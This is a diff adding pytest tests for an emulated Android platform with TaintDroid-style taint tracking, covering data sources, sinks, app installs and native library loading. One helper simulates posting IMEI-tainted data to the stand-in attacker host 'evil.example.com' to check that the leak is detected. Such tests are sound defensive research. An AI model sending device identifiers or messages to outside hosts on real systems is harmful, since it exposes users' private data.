@@ -1,0 +1,195 @@
+"""Framework tests: platform assembly, sources/sinks, library loading."""
+
+import pytest
+
+from repro.common.errors import DalvikError
+from repro.common.taint import (
+    TAINT_CLEAR, TAINT_CONTACTS, TAINT_IMEI, TAINT_SMS,
+)
+from repro.dalvik import ClassDef, MethodBuilder
+from repro.dalvik.heap import Slot
+from repro.framework import AndroidPlatform, Apk
+from repro.taintdroid import TaintDroid
+
+
+@pytest.fixture
+def platform():
+    return AndroidPlatform()
+
+
+@pytest.fixture
+def td_platform():
+    platform = AndroidPlatform()
+    TaintDroid.attach(platform)
+    return platform
+
+
+def simple_app(package="Lcom/example/app;", **kwargs):
+    cls = ClassDef(package)
+    return cls, Apk(package=package.strip("L;").replace("/", "."),
+                    classes=[cls], **kwargs)
+
+
+class TestSources:
+    def test_imei_source_tainted_under_taintdroid(self, td_platform):
+        result = td_platform.vm.invoke_symbol(
+            "Landroid/telephony/TelephonyManager;->getDeviceId", [])
+        assert td_platform.vm.string_at(result.value) == \
+            td_platform.device.imei
+        assert result.taint == TAINT_IMEI
+        assert td_platform.vm.heap.get(result.value).taint == TAINT_IMEI
+
+    def test_sources_untainted_without_taintdroid(self, platform):
+        result = platform.vm.invoke_symbol(
+            "Landroid/telephony/TelephonyManager;->getDeviceId", [])
+        assert result.taint == TAINT_CLEAR
+
+    def test_contacts_source(self, td_platform):
+        result = td_platform.vm.invoke_symbol(
+            "Landroid/provider/ContactsContract;->getContactName", [Slot(0)])
+        assert td_platform.vm.string_at(result.value) == "Vincent"
+        assert result.taint == TAINT_CONTACTS
+
+    def test_sms_source(self, td_platform):
+        result = td_platform.vm.invoke_symbol(
+            "Landroid/provider/Telephony$Sms;->getAllMessages", [])
+        assert result.taint == TAINT_SMS
+        assert "verification" in td_platform.vm.string_at(result.value)
+
+
+class TestJavaSinks:
+    def _post(self, platform, taint):
+        vm = platform.vm
+        dest = vm.heap.alloc_string("evil.example.com:80")
+        body = vm.heap.alloc_string("payload", taint)
+        return vm.invoke_symbol(
+            "Lorg/apache/http/client/HttpClient;->post",
+            [Slot(dest.address, 0, True), Slot(body.address, taint, True)])
+
+    def test_tainted_post_detected_by_taintdroid(self, td_platform):
+        self._post(td_platform, TAINT_IMEI)
+        assert td_platform.leaks.detected_by("taintdroid", TAINT_IMEI)
+        sent = td_platform.kernel.network.transmissions_to("evil.example.com")
+        assert sent[0].payload == b"payload"
+        assert sent[0].taint_union == TAINT_IMEI
+
+    def test_clean_post_not_reported(self, td_platform):
+        self._post(td_platform, TAINT_CLEAR)
+        assert not td_platform.leaks.detected_by("taintdroid")
+
+    def test_taintdroid_absent_means_no_detection(self, platform):
+        self._post(platform, TAINT_IMEI)
+        assert len(platform.leaks) == 0
+
+    def test_file_sink(self, td_platform):
+        vm = td_platform.vm
+        path = vm.heap.alloc_string("/sdcard/out.txt")
+        body = vm.heap.alloc_string("secret", TAINT_SMS)
+        vm.invoke_symbol(
+            "Ljava/io/FileOutputStream;->writeString",
+            [Slot(path.address, 0, True), Slot(body.address, TAINT_SMS, True)])
+        assert td_platform.leaks.detected_by("taintdroid", TAINT_SMS)
+        assert td_platform.kernel.filesystem.read_text("/sdcard/out.txt") == \
+            "secret"
+
+
+class TestAppLifecycle:
+    def test_install_and_run(self, platform):
+        cls, apk = simple_app()
+        cls.add_method(
+            MethodBuilder(cls.name, "main", "I", static=True)
+            .const(0, 123).ret(0).build())
+        platform.install(apk)
+        assert platform.run_app(apk).value == 123
+
+    def test_double_install_rejected(self, platform):
+        cls, apk = simple_app()
+        cls.add_method(MethodBuilder(cls.name, "main", "I", static=True)
+                       .const(0, 0).ret(0).build())
+        platform.install(apk)
+        with pytest.raises(DalvikError):
+            platform.install(apk)
+
+    def test_load_library_binds_native_methods(self, platform):
+        cls, apk = simple_app("Lcom/demo/App;")
+        cls.add_method(MethodBuilder(cls.name, "nativeAdd", "III",
+                                     static=True, native=True).build())
+        builder = MethodBuilder(cls.name, "main", "I", static=True,
+                                registers=4)
+        builder.const_string(0, "libdemo.so")
+        builder.invoke_static("Ljava/lang/System;->loadLibrary", 0)
+        builder.const(1, 20).const(2, 22)
+        builder.invoke_static("Lcom/demo/App;->nativeAdd", 1, 2)
+        builder.move_result(3)
+        builder.ret(3)
+        cls.add_method(builder.build())
+        apk.native_libraries["libdemo.so"] = """
+        Java_com_demo_App_nativeAdd:
+            add r0, r2, r3
+            bx lr
+        """
+        apk.load_library_calls.append("libdemo.so")
+        platform.install(apk)
+        assert platform.run_app(apk).value == 42
+
+    def test_library_region_is_third_party(self, platform):
+        cls, apk = simple_app("Lcom/demo/App;")
+        cls.add_method(MethodBuilder(cls.name, "main", "V", static=True)
+                       .ret_void().build())
+        apk.native_libraries["libx.so"] = "noop: bx lr"
+        platform.install(apk)
+        program = platform.load_library("libx.so")
+        region = platform.emu.memory_map.find(program.base)
+        assert region.third_party
+        assert region.name == "libx.so"
+
+    def test_missing_library_raises(self, platform):
+        with pytest.raises(DalvikError, match="UnsatisfiedLinkError"):
+            platform.load_library("libmissing.so")
+
+    def test_dlopen_dlsym_roundtrip(self, platform):
+        cls, apk = simple_app("Lcom/demo/App;")
+        cls.add_method(MethodBuilder(cls.name, "main", "V", static=True)
+                       .ret_void().build())
+        apk.native_libraries["libdl.so"] = """
+        exported_fn:
+            mov r0, #55
+            bx lr
+        """
+        platform.install(apk)
+        handle = platform._dlopen("/data/app/libdl.so")
+        assert handle != 0
+        address = platform._dlsym(handle, "exported_fn")
+        assert address != 0
+        assert platform.emu.call(address) == 55
+        assert platform._dlsym(handle, "missing") == 0
+
+    def test_task_structs_include_library(self, platform):
+        cls, apk = simple_app("Lcom/demo/App;")
+        cls.add_method(MethodBuilder(cls.name, "main", "V", static=True)
+                       .ret_void().build())
+        apk.native_libraries["liby.so"] = "f: bx lr"
+        platform.install(apk)
+        platform.load_library("liby.so")
+        # The memory map (and therefore the guest task structs) now list it.
+        assert platform.emu.memory_map.find_by_name("liby.so") is not None
+
+
+class TestWorkCounters:
+    def test_counters_track_activity(self, platform):
+        cls, apk = simple_app()
+        builder = MethodBuilder(cls.name, "main", "I", static=True,
+                                registers=3)
+        builder.const(0, 0).const(1, 100)
+        builder.label("loop")
+        from repro.dalvik.instructions import Op
+        builder.if_cmp(Op.IF_GE, 0, 1, "done")
+        builder.add_lit(0, 0, 1)
+        builder.goto("loop")
+        builder.label("done")
+        builder.ret(0)
+        cls.add_method(builder.build())
+        platform.install(apk)
+        platform.run_app(apk)
+        counters = platform.work_counters()
+        assert counters["dalvik_instructions"] > 100
